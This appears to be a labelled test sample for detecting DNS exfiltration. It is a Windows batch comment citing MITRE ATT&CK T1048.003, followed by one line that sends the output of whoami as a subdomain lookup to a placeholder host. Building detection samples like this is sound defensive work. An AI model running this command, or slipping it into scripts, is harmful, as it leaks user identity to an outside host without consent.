@rem expect: dns-exfiltration | source: MITRE ATT&CK T1048.003
for /f %%u in ('whoami') do nslookup %%u.in.example.invalid
